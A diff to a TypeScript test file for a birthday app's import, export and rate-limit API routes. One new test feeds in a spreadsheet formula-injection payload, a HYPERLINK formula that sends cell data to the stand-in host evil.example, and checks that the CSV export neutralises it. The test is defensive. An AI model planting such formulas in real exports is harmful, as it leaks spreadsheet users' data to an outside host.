@@ -3,6 +3,7 @@ import { POST as importRoute } from "@/app/api/birthdays/import/route";
 import { POST as previewRoute } from "@/app/api/birthdays/import/preview/route";
 import { db } from "@/lib/db";
 import { readImport } from "@/lib/contacts/import";
+import { translatorFor } from "@/lib/http/translate";
 import en from "@/messages/en.json";
 import lt from "@/messages/lt.json";
 import ru from "@/messages/ru.json";
@@ -93,6 +94,17 @@ describe("POST /api/birthdays/import/preview", () => {
     expect(await allBirthdays()).toEqual(before);
   });
 
+  it("offers a CSV row with a bad e-mail address without the address, and says so", async () => {
+    const { cookie } = await signedInUser();
+    const content = "Name,Birthday,Email\nBob,1990-07-15,bob@\nAnn,--03-01,ann@example.com";
+    const response = await preview({ format: "csv", content }, cookie);
+    expect(response.status).toBe(200);
+    expect((await response.json()).candidates).toEqual([
+      { line: 2, name: "Bob", date: "1990-07-15", birthYear: 1990, email: null, notes: null, invalidEmail: "bob@" },
+      { line: 3, name: "Ann", date: "2000-03-01", birthYear: null, email: "ann@example.com", notes: null },
+    ]);
+  });
+
   it("reports dates that read both ways and applies the chosen order", async () => {
     const { cookie } = await signedInUser();
     const content = "Name,Birthday\nAnn,03/04/1990";
@@ -113,14 +125,18 @@ describe("POST /api/birthdays/import/preview", () => {
 });
 
 describe("POST /api/birthdays/import", () => {
-  it("saves the candidates of a vCard file for this user only and reports what it skipped", async () => {
+  it("saves the candidates of a vCard file for this user only, one without its bad e-mail address, and reports it", async () => {
     const { user, cookie } = await signedInUser();
     const other = await signedInUser("eve@example.com");
     const response = await importFile({ format: "vcard", content: vcard }, cookie);
     expect(response.status).toBe(200);
-    expect(await response.json()).toEqual({ imported: 1, skipped: [{ line: 7, reason: "invalidEmail", name: "Ann" }] });
+    expect(await response.json()).toEqual({
+      imported: 2,
+      skipped: [],
+      emailsLeftOut: [{ line: 7, name: "Ann", email: "not-an-address" }],
+    });
     const rows = await db().birthday.findMany({ orderBy: { id: "asc" } });
-    expect(rows).toHaveLength(1);
+    expect(rows).toHaveLength(2);
     expect(rows[0]).toMatchObject({
       userId: user.id,
       name: "Пётр Иванов",
@@ -130,6 +146,8 @@ describe("POST /api/birthdays/import", () => {
       birthYear: null,
       notes: "Line one\nline two",
     });
+    // A bad e-mail address costs the entry only its address.
+    expect(rows[1]).toMatchObject({ userId: user.id, name: "Ann", date: "1985-01-02", birthYear: 1985, email: null });
     expect(await db().birthday.count({ where: { userId: other.user.id } })).toBe(0);
   });
 
@@ -159,8 +177,8 @@ describe("POST /api/birthdays/import", () => {
       importFile({ format: "vcard", content: vcard }, cookie),
     ]);
     const imported = await Promise.all(results.map(async (response) => (await response.json()).imported));
-    expect(imported.sort()).toEqual([0, 1]);
-    expect(await db().birthday.count({ where: { userId: user.id } })).toBe(1);
+    expect(imported.sort()).toEqual([0, 2]);
+    expect(await db().birthday.count({ where: { userId: user.id } })).toBe(2);
   });
 
   it.each([
@@ -199,6 +217,33 @@ describe("POST /api/birthdays/import", () => {
   });
 });
 
+describe("import rate limit", () => {
+  it.each(["en", "lt", "ru"] as const)("answers a translated 429 in %s after 30 previews and imports in ten minutes, for that user only", async (locale) => {
+    const { user, cookie: session } = await signedInUser();
+    const cookie = `${session}; NEXT_LOCALE=${locale}`;
+    const content = "Name,Birthday\nBob,1990-07-15";
+    for (let attempt = 0; attempt < 15; attempt += 1) {
+      expect((await preview({ format: "csv", content }, cookie)).status).toBe(200);
+      expect((await importFile({ format: "csv", content }, cookie)).status).toBe(200);
+    }
+    for (const send of [preview, importFile]) {
+      const response = await send({ format: "csv", content }, cookie);
+      expect(response.status).toBe(429);
+      const retryAfter = Number(response.headers.get("retry-after"));
+      expect(retryAfter).toBeGreaterThan(0);
+      expect(await response.json()).toEqual({
+        error: {
+          code: "rate_limited",
+          message: translatorFor(locale)("errors.importRateLimited", { minutes: Math.ceil(retryAfter / 60) }),
+        },
+      });
+    }
+    expect(await db().birthday.count({ where: { userId: user.id } })).toBe(1);
+    const other = await signedInUser("eve@example.com");
+    expect((await preview({ format: "csv", content }, other.cookie)).status).toBe(200);
+  });
+});
+
 describe("GET /api/birthdays/export", () => {
   it("downloads only the user's own birthdays as CSV with a BOM, which imports back the same", async () => {
     const { user, cookie } = await signedInUser();
@@ -233,6 +278,25 @@ describe("GET /api/birthdays/export", () => {
     expect(readImport({ format: "vcard", content: text }).candidates).toEqual([
       { line: 1, name: "Ann", date: "1985-01-02", birthYear: 1985, email: null, notes: null },
     ]);
+  });
+
+  it("neutralises a formula that came in through a vCard in the CSV export, and keeps the vCard export exact", async () => {
+    const { user, cookie } = await signedInUser();
+    const formula = '=HYPERLINK("https://evil.example/?d="&A1,"Open")';
+    const content = ["BEGIN:VCARD", "VERSION:3.0", `FN:${formula.replace(/,/g, "\\,")}`, "BDAY:1990-07-15", "NOTE:+1 555 0100", "END:VCARD"].join("\r\n");
+    expect(await (await importFile({ format: "vcard", content }, cookie)).json()).toMatchObject({ imported: 1 });
+    expect(await db().birthday.findFirst({ where: { userId: user.id } })).toMatchObject({ name: formula, notes: "+1 555 0100" });
+
+    const csvText = await (await exportFile("csv", cookie)).text();
+    expect(csvText.split("\r\n")[1]).toBe(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""Open"")",1990-07-15,,"'+1 555 0100"`);
+    const vcardText = await (await exportFile("vcard", cookie)).text();
+    expect(vcardText).toContain(`FN:${formula.replace(/,/g, "\\,")}\r\n`);
+    expect(vcardText).toContain("NOTE:+1 555 0100\r\n");
+    for (const [format, text] of [["csv", csvText], ["vcard", vcardText]] as const) {
+      expect(readImport({ format, content: text }).candidates).toEqual([
+        { line: expect.any(Number), name: formula, date: "1990-07-15", birthYear: 1990, email: null, notes: "+1 555 0100" },
+      ]);
+    }
   });
 
   it("answers 400 for an unknown format", async () => {
